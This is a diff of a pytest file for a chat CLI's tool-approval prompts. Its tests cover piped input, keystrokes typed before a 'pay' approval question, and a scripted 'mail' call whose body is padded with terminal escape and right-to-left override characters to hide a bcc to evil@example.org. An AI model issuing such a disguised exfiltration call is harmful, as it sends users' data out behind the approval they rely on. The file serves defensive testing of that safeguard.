@@ -2,14 +2,16 @@
 
 import io
 import subprocess
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
 from rich.console import Console
 
-from prompty import GatedCall
+from prompty import GatedCall, load
 from prompty.cli.approval import Approver
+from prompty.cli.chat import Conversation
+from prompty.memory import InProcessMemory
 from tests.terminal import PROMPTY, Terminal
 
 pytestmark = pytest.mark.process
@@ -149,6 +151,13 @@ def test_the_end_of_the_input_is_a_no_and_ends_the_chat(folder: Path) -> None:
     assert "Thank you." in said
 
 
+def test_each_line_of_a_pipe_is_a_message_of_its_own(folder: Path) -> None:
+    (folder / "echo.prompty").write_text(PROMPT.format(script="[Noted.]"))
+    said = piped(folder, "echo.prompty", "One\nTwo\n/exit\nThree\n")
+    assert said.count("Noted.") == 2
+    assert "sent:" not in said
+
+
 def test_a_question_shows_every_argument_of_a_call_and_no_control_characters(folder: Path) -> None:
     body = "b" * 1000 + " \\u001b[2K\\u202e\\n"
     script = f'[{{call: mail, arguments: {{body: "{body}", bcc: evil@example.org}}}}, Sent.]'
@@ -179,6 +188,39 @@ def test_always_ends_when_the_definition_of_a_tool_changes() -> None:
     assert [ask("one"), ask("one"), ask("two")] == [[True], [True], [False]]
     assert isinstance(shown.file, io.StringIO)
     assert shown.file.getvalue().count("allow pay") == 2
+
+
+class TypedAhead:
+    """A keyboard on which somebody has typed a line before the question."""
+
+    def __init__(self, *lines: str) -> None:
+        self.lines = list(lines)
+
+    def read_message(self) -> str | None:
+        return None
+
+    def read_reply(self, is_cancelled: Callable[[], bool]) -> str | None:
+        return self.lines.pop(0) if self.lines else None
+
+    def read_pending(self) -> Iterator[str]:
+        while self.lines:
+            yield self.lines.pop(0)
+
+
+def test_a_line_typed_before_a_question_goes_to_the_model_and_is_no_answer(folder: Path) -> None:
+    conversation = Conversation(
+        load(folder / "pay.prompty"),
+        {},
+        functions=[],
+        store=InProcessMemory(),
+        session=None,
+        ask=None,
+        approval=None,
+        keyboard=TypedAhead("y"),
+    )
+    call = GatedCall(id="", name="pay", arguments={}, key="k", needs_approval=True)
+    assert [verdict.allowed for verdict in conversation.decide_all([call])] == [False]
+    assert conversation.steering.drain(follow_ups=False) == ["y"]
 
 
 def test_a_banner_names_the_file_and_the_model_and_says_how_to_leave(folder: Path, terminals: list[Terminal]) -> None:
